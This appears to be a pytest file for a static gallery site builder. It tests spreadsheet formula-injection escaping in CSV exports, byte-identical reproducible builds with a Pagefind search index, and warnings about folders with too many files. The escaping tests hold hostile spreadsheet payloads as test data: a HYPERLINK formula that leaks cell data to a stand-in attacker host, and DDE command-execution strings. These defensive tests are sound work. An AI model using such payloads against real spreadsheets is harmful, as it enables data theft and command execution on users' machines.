"""Issue #24, findings 11-13: the exports are safe to open in a spreadsheet, the same input
gives the same site byte for byte whichever way it was built (the search index included),
and a folder too wide for GitHub is named, with what to do, before anything is written."""
from __future__ import annotations

import csv
import gzip
import io
import re
import tempfile
from pathlib import Path

import numpy as np
import pytest

from core.log import QUIET
from core.manifest import ImageRecord, Manifest
from render import budget, exports, search
from tests.conftest import pattern, pattern_collection, run_build, site_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def read_gz_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(gzip.decompress(Path(path).read_bytes()).decode("utf-8"))))


# --- finding 11: spreadsheet formula injection --------------------------------------------

def _record(n: int, path: str, title: str) -> ImageRecord:
    return ImageRecord(id=f"{n:012x}", sha256=f"{n:064x}", path=path, title=title, width=-1 if n == 9 else 64,
                       height=48, bytes=10)


def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers():
    hostile = [("a/+cmd.jpg", "+cmd|' /C calc'!A0"), ("@SUM.jpg", "@SUM(1+1)*cmd|' /C calc'!A0"),
               ("-2+3.jpg", "-2+3"), ("x.jpg", HYPERLINK), ("t.jpg", "\tTabbed"), ("r.jpg", "\rReturn"),
               ("=1+1.png", "-3.5"), ("safe.jpg", "A quiet title"), ("mid=dle.jpg", "x = 1 + 2 - 3 @ home")]
    recs = [_record(i, p, t) for i, (p, t) in enumerate(hostile)]
    recs[0].tags = [{"label": "-fake label", "wnid": "n1", "p": 0.5, "class": 1},
                    {"label": "tabby", "wnid": "n2", "p": 0.25, "class": 2}]
    m = Manifest(collection="/c", model="m", images=recs)
    rows = list(csv.reader(io.StringIO(exports.images_csv(m))))
    assert rows[0] == ["id", "path", "title", "width", "height"]
    for row, (path, title) in zip(rows[1:], hostile):
        for cell_, raw in ((row[1], path), (row[2], title)):
            if raw[0] in "=+-@\t\r":
                assert cell_ == "'" + raw, (cell_, raw)  # the formula is text, shown as it was
            else:
                assert cell_ == raw  # a formula sign inside a cell is harmless: left alone
    tags = list(csv.reader(io.StringIO(exports.tags_csv(m))))
    assert [r[2] for r in tags[1:]] == ["'-fake label", "tabby"] and tags[1][4] == "0.5000"

    class Lay:  # negative similarities: a number, never a quoted text
        neighbours = np.array([[1, 2]] + [[0, 2]] * (len(recs) - 1))
        similarity = np.array([[-0.5, -3.25]] * len(recs), dtype=np.float32)
    nb = list(csv.reader(io.StringIO(exports.neighbours_csv(m, Lay()))))
    assert nb[1] == [recs[0].id, "1", recs[1].id, "-0.5000"] and nb[2][3] == "-3.2500"


def test_pandas_reads_the_quoted_cells_back_as_text_and_the_numbers_as_numbers(tmp_path):
    pd = pytest.importorskip("pandas")
    recs = [_record(0, "-2+3.jpg", HYPERLINK), _record(1, "@SUM.jpg", "\rReturn"), _record(9, "b.jpg", "-3.5")]
    m = Manifest(collection="/c", model="m", images=recs)
    (tmp_path / "images.csv.gz").write_bytes(exports.gz(exports.images_csv(m)))
    df = pd.read_csv(tmp_path / "images.csv.gz", dtype={"id": str}, keep_default_na=False)
    assert list(df["path"]) == ["'-2+3.jpg", "'@SUM.jpg", "b.jpg"]
    assert list(df["title"]) == ["'" + HYPERLINK, "'\rReturn", "'-3.5"]
    assert df["width"].dtype.kind == "i" and list(df["width"]) == [64, 64, -1]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A real build: files named like formulas and a catalogue whose titles are formulas."""
    root = tmp_path_factory.mktemp("formulas")
    coll = root / "coll"
    names = ["+cmd.jpg", "@SUM.jpg", "-2+3.jpg", "=1+1.jpg", "plain_a.jpg", "plain_b.jpg"]
    for i, name in enumerate(names):
        pattern(coll / name, ("stripes", "checks", "disc")[i % 3], seed=i)
    (coll / "metadata.csv").write_text(f'path,title\nplain_a.jpg,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
                                       f"plain_b.jpg,-3.5\n", encoding="utf-8")
    out = root / "site"
    assert run_build("--collection", coll, "--out", out, "--work-dir", root / "w", "--facets", "colour",
                     "--quiet") == 0
    return {"out": out, "names": names}


def test_a_built_export_quotes_formula_names_and_titles(hostile_site):
    rows = {r[0]: r for r in read_gz_csv(hostile_site["out"] / "data" / "images.csv.gz")[1:]}
    by_path = {r[1]: r for r in rows.values()}
    assert set(by_path) == {"'+cmd.jpg", "'@SUM.jpg", "'-2+3.jpg", "'=1+1.jpg", "plain_a.jpg", "plain_b.jpg"}
    assert by_path["plain_a.jpg"][2] == "'" + HYPERLINK and by_path["plain_b.jpg"][2] == "'-3.5"
    assert all(r[3].isdigit() and r[4].isdigit() for r in rows.values())
    page = next((hostile_site["out"] / "image").glob(f"*/{by_path['plain_b.jpg'][0]}.html")).read_text()
    assert "<h1 data-pagefind-meta=\"title\"><bdi>-3.5</bdi></h1>" in page  # the pages show the title as it is
    for nb in (hostile_site["out"] / "data").glob("neighbours-*.csv.gz"):
        assert all(not c.startswith("'") for r in read_gz_csv(nb) for c in r)  # ids and numbers only


# --- finding 12: the same input, the same site, whichever way it was built -----------------

# Catalogue columns in an order that is not alphabetical (zone, medium, accession after the
# known ones): a stage that sorted them would show the facts in another order.
CATALOGUE = "path,title,zone,medium,creator,date,accession\n" + "".join(
    f"{k}/{k}_{i}.jpg,Étude {k} {i},z{i},m{3 - i},C{i % 2} & Co,19{i}0,A{i}\n"
    for k in ("stripes", "checks", "disc") for i in range(4))


@pytest.fixture(scope="module")
def four_ways(tmp_path_factory):
    """One collection built in one go, stage by stage, and in one go into a fresh folder with a
    fresh work folder (the fourth way, into the existing folder, is a test of its own)."""
    root = tmp_path_factory.mktemp("same")
    coll = pattern_collection(root / "coll", 4)
    (coll / "metadata.csv").write_text(CATALOGUE, encoding="utf-8")
    one = ["--collection", coll, "--facets", "colour", "--quiet"]
    assert run_build(*one, "--out", root / "one", "--work-dir", root / "w1") == 0
    where = ["--collection", coll, "--work-dir", root / "w2", "--quiet"]
    assert run_build("embed", *where, "--facets", "colour") == 0
    assert run_build("layout", *where) == 0
    assert run_build("render", *where, "--out", root / "staged") == 0
    assert run_build(*one, "--out", root / "fresh", "--work-dir", root / "w3") == 0
    return {"root": root, "coll": coll, "one": one}


def test_pages_show_the_catalogue_columns_in_the_catalogue_order(four_ways):
    for site in ("one", "staged"):
        page = next((four_ways["root"] / site / "image").glob("*/*.html")).read_text()
        labels = re.findall(r"<dt>([^<]+)</dt>", page)
        assert labels[:5] == ["Creator", "Date", "zone", "medium", "accession"], (site, labels)


def test_one_shot_stage_by_stage_and_a_fresh_folder_give_the_same_bytes(four_ways):
    root = four_ways["root"]
    one, staged, fresh = (site_bytes(root / name) for name in ("one", "staged", "fresh"))
    assert sum(rel.startswith("pagefind/filter/") for rel in one) == 5  # Creator, Date, zone, medium, accession
    assert sorted(one) == sorted(staged) == sorted(fresh) and len(one) > 40
    assert [rel for rel in one if one[rel] != staged[rel]] == []
    assert [rel for rel in one if one[rel] != fresh[rel]] == []  # the search index included


def test_an_unchanged_rebuild_into_the_existing_folder_writes_nothing(four_ways, monkeypatch):
    """A new work folder (nothing remembered) and a site folder that refuses writes: every file
    is made again, and each is found equal, so the build succeeds without writing one."""
    root = four_ways["root"]
    site = root / "one"
    before = site_bytes(site)
    stamps = {p: p.stat().st_mtime_ns for p in site.rglob("*") if p.is_file()}
    real, refused = tempfile.mkstemp, []

    def read_only(*args, dir=None, **kw):  # core/files.py writes each file through mkstemp + rename
        if dir is not None and (Path(dir) == site or site in Path(dir).parents):
            refused.append(str(dir))
            raise PermissionError(13, "Permission denied", str(dir))
        return real(*args, dir=dir, **kw)
    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    assert run_build(*four_ways["one"], "--out", site, "--work-dir", root / "w4") == 0
    assert refused == []
    assert site_bytes(site) == before
    assert {p: p.stat().st_mtime_ns for p in site.rglob("*") if p.is_file()} == stamps


@pytest.mark.skipif(search.available() is not None, reason="Pagefind is not installed")
def test_pagefind_filters_come_out_in_one_order(tmp_path):
    """Three indexes of the same pages by three Pagefind processes: the same bytes, and the
    filter names as Pagefind gives them (SHA-1 of the content)."""
    import hashlib

    from tests.test_search_index import _Site

    words = ["café", "cafe", "Zoë", "zoe", "naïve", "résumé", "tulip", "daisy"]
    rels = []
    for i in range(30):
        rel = f"image/{i % 5:02x}/{i:012x}.html"
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(
            f"<html lang='en'><body><main data-pagefind-body><h1>{words[i % 8]} {i}</h1>"
            + "".join(f"<span data-pagefind-filter='{f}'>{words[(i * m) % 8]}</span>"
                      for f, m in (("tag", 1), ("Creator", 3), ("zone", 5), ("Machine tag:x", 7)))
            + "</main></body></html>", encoding="utf-8")
        rels.append(rel)
    indexes = []
    for _ in range(3):
        site = _Site(tmp_path)
        assert search.index_site(site, rels, QUIET)[1] == ""
        indexes.append(site.files)
    assert indexes[0] == indexes[1] == indexes[2]
    fragments = [rel for rel in indexes[0] if rel.startswith("pagefind/fragment/")]
    assert len(fragments) == 30 and all(re.fullmatch(r"pagefind/fragment/([0-9a-f]{2})/en_\1[0-9a-f]{5}\.pf_fragment",
                                                     rel) for rel in fragments)
    filters = {rel: data for rel, data in indexes[0].items() if rel.startswith("pagefind/filter/")}
    assert len(filters) == 4
    for rel, data in filters.items():
        body = gzip.decompress(data)[len(b"pagefind_dcd"):]
        assert rel == f"pagefind/filter/en_{hashlib.sha1(body).hexdigest()[:7]}.pf_filter"


def test_an_index_not_laid_out_as_expected_is_left_alone_with_a_note():
    from render.pagefind_canon import NotCanonical, canonical

    with pytest.raises(NotCanonical, match="pagefind-entry.json"):
        canonical({"pagefind-entry.json": b"not json"})
    entry = b'{"version":"9.0","languages":{"en":{"hash":"en_0","wasm":"en","page_count":1}}}'
    with pytest.raises(NotCanonical, match="pagefind.en_0.pf_meta is named but missing"):
        canonical({"pagefind-entry.json": entry})
    bad = gzip.compress(b"pagefind_dcd\x9f\xff")  # CBOR of indefinite length: not what 1.5 writes
    with pytest.raises(NotCanonical, match="pagefind.en_0.pf_meta unreadable"):
        canonical({"pagefind-entry.json": entry, "pagefind.en_0.pf_meta": bad})


# --- finding 13: every file counts, the search index's too, and a wide folder is named first ---

def test_the_search_index_counts_and_is_sharded_in_the_estimate():
    """100,000 pages: the search index's file per page is in 256 shards (~400 each), no warning;
    a million: the shard folder passes 3,000 and is named with what to do."""
    guess = budget.estimate({"thumbs": 100_000 * 9_000}, budget.Planned(pages=100_000, images=100_000, facets=1, k=30,
                            map_neighbours=12, search=True), previous={})
    assert 390 < guess["files"]["pagefind/fragment/00"] < 500 and guess["folders"]["pagefind"] > 100_000 * 2_000
    assert not any("pagefind" in w for w in budget.check(guess["bytes"], guess["folders"], guess["files"], {}))
    huge = budget.estimate({}, budget.Planned(pages=1_000_000, images=1_000_000, facets=1, k=30, map_neighbours=12,
                           search=True), previous={})
    wide = [w for w in budget.check(0, {}, huge["files"], {}) if w.startswith("pagefind/fragment/00/ holds")]
    assert len(wide) == 1 and "pages_max" in wide[0] and "GitHub Actions" in wide[0] and "no git tree" in wide[0]


def test_a_real_build_names_a_wide_folder_before_its_first_file(tmp_path, monkeypatch, capsys):
    """One shard instead of 256 and a folder budget of 10 files: 12 image pages make the
    warning about pagefind/fragment/00/ come before any file of the site is written. The
    site's own search index is sharded: pagefind/fragment/ holds folders only."""
    from render import output

    if search.available() is not None:
        pytest.skip("Pagefind is not installed")
    monkeypatch.setattr(budget, "FOLDER_FILES", 10)
    monkeypatch.setattr(budget, "SHARDS", 1)
    events = []
    real_put = output.SiteFiles.put

    def put(self, rel, data):
        events.append(("put", rel))
        return real_put(self, rel, data)
    monkeypatch.setattr(output.SiteFiles, "put", put)
    real_print = print

    def spy(*args, **kw):
        events.append(("say", " ".join(map(str, args))))
        return real_print(*args, **kw)
    monkeypatch.setattr("builtins.print", spy)
    coll = pattern_collection(tmp_path / "coll", 4)
    assert run_build("--collection", coll, "--out", tmp_path / "site", "--work-dir", tmp_path / "w",
                     "--facets", "colour") == 0
    first_put = next(i for i, e in enumerate(events) if e[0] == "put")
    said = [i for i, e in enumerate(events) if e[0] == "say" and "pagefind/fragment/00/ holds" in e[1]]
    assert said and said[0] < first_put, events[:5]
    assert "GitHub Actions" in events[said[0]][1] and "pages_max" in events[said[0]][1]
    fragments = tmp_path / "site" / "pagefind" / "fragment"
    assert [p for p in fragments.iterdir() if p.is_file()] == []
    shards = {p.relative_to(fragments).as_posix() for p in fragments.rglob("*.pf_fragment")}
    assert len(shards) == 12 and all(re.fullmatch(r"([0-9a-f]{2})/en_\1[0-9a-f]{5}\.pf_fragment", s) for s in shards)
